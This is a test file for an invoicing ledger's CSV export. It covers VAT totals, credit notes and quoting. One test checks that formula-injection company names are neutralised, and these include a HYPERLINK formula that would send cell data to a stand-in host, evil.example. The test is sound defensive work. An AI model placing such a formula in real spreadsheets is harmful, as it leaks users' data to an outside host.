import { orderIn } from '../orders/testing/order-test-kit.js';
import { creditNoteFor, invoiceDocumentFor } from './invoice-document-for.js';
import { csvAmount, invoiceListItem, ledgerCsvLines, ledgerPeriod, ledgerTotals } from './invoice-ledger.js';
import { testSeller } from './testing/test-seller.js';

const seller = testSeller;
const order = orderIn('ready_for_delivery', {
  billing: 'yearly',
  form: { companyName: 'Boulangerie "Martin"; et fils', companyId: '51234987900001' },
}).state;
const deposit = invoiceDocumentFor({
  order,
  payment: {
    purpose: 'deposit',
    provider: 'sandbox',
    paymentId: 'cs_1',
    amountWithVat: order.price!.depositWithVat,
    paidAt: '2026-03-01T10:00:00Z',
  },
  number: 'F-2026-000001',
  issuedAt: '2026-03-01T10:00:01Z',
  seller,
});
const credit = creditNoteFor(deposit, {
  number: 'A-2026-000001',
  issuedAt: '2026-03-05T10:00:00Z',
  reason: 'Annulation',
  refundedAt: null,
});

describe("the accountant's ledger", () => {
  it('given an invoice and its credit note, then the totals net to zero, HT, VAT and TTC', () => {
    const items = [invoiceListItem(deposit, 'a'), invoiceListItem(credit, 'b')];
    expect(items.map((i) => i.kindLabel)).toEqual(["Facture d'acompte", 'Avoir']);
    expect(ledgerTotals(items)).toEqual({
      invoices: 1,
      creditNotes: 1,
      totalAmount: 0,
      vatAmount: 0,
      totalWithVat: 0,
    });
    expect(ledgerTotals([items[0]!])).toMatchObject({ totalWithVat: order.price!.depositWithVat });
  });

  it('writes one CSV line per VAT rate, amounts with a decimal comma, a credit note negative, quoted where needed', () => {
    const [line] = ledgerCsvLines(credit);
    const base = deposit.vatBreakdown[0]!;
    expect(line).toBe(
      [
        'A-2026-000001',
        'Avoir',
        '2026-03-05',
        String(order.orderNumber),
        '"Boulangerie ""Martin""; et fils"',
        '512349879',
        '20',
        csvAmount(-base.baseAmount),
        csvAmount(-base.vatAmount),
        csvAmount(-(base.baseAmount + base.vatAmount)),
        'F-2026-000001',
      ].join(';'),
    );
    expect(csvAmount(-123_456)).toBe('-1234,56');
    expect(csvAmount(5)).toBe('0,05');
  });

  it.each([
    [
      '=HYPERLINK("http://evil.example/?d="&A1;"Facture")',
      `"'=HYPERLINK(""http://evil.example/?d=""&A1;""Facture"")"`,
    ],
    ['+33 Martin', "'+33 Martin"],
    ['-Martin', "'-Martin"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\tMartin', `"'\tMartin"`],
    ['\rMartin', `"'\rMartin"`],
  ])('neutralises a company name a spreadsheet would run as a formula: %j', (companyName, cell) => {
    const typed = orderIn('ready_for_delivery', { billing: 'yearly', form: { companyName } }).state;
    const document = invoiceDocumentFor({
      order: typed,
      payment: {
        purpose: 'deposit',
        provider: 'sandbox',
        paymentId: 'cs_2',
        amountWithVat: typed.price!.depositWithVat,
        paidAt: '2026-03-01T10:00:00Z',
      },
      number: 'F-2026-000002',
      issuedAt: '2026-03-01T10:00:01Z',
      seller,
    });
    // The document trims the name; a tab or CR at its start is set on the document itself.
    const [line] = ledgerCsvLines({ ...document, buyer: { ...document.buyer, name: companyName } });
    expect(line).toContain(`;${cell};`);
    // The amounts are ours: a credit note's minus sign stays a number.
    expect(
      ledgerCsvLines(
        creditNoteFor(document, {
          number: 'A-2026-000002',
          issuedAt: '2026-03-05T10:00:00Z',
          reason: 'x',
          refundedAt: null,
        }),
      )[0],
    ).toMatch(/;-\d+,\d{2};/);
  });

  it('reads a period of days, the current month by default, either way round', () => {
    expect(ledgerPeriod(undefined, undefined, '2026-11-27')).toEqual({
      from: '2026-11-01',
      to: '2026-11-27',
    });
    expect(ledgerPeriod('2026-12-31', '2026-01-01', '2026-11-27')).toEqual({
      from: '2026-01-01',
      to: '2026-12-31',
    });
  });
});
